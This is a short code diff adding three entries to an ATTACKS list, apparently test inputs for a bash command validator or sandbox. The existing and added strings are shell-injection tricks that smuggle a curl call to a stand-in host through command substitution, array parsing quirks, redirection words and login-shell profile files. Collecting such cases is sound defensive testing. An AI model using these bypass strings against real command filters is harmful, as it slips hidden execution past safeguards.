@@ -102,6 +102,9 @@ ATTACKS = [
     "a=(1); read 'a[$(curl http://x)]' <<< x",  # so does a name read assigns
     "echo 'curl http://x' > ~/.profile; bash -lc ls",  # a login shell runs ~/.profile
     "jobs -x curl http://x",
+    'TEXTDOMAINDIR=locale TEXTDOMAIN=t\necho $"hi"',  # a translation a shipped catalog holds is expanded
+    "a=(1)ls curl http://x",  # bash reads a=(1)ls as one word
+    "ls >& '$(curl http://x)'",  # bash expands the word of >& twice
 ]
 
 
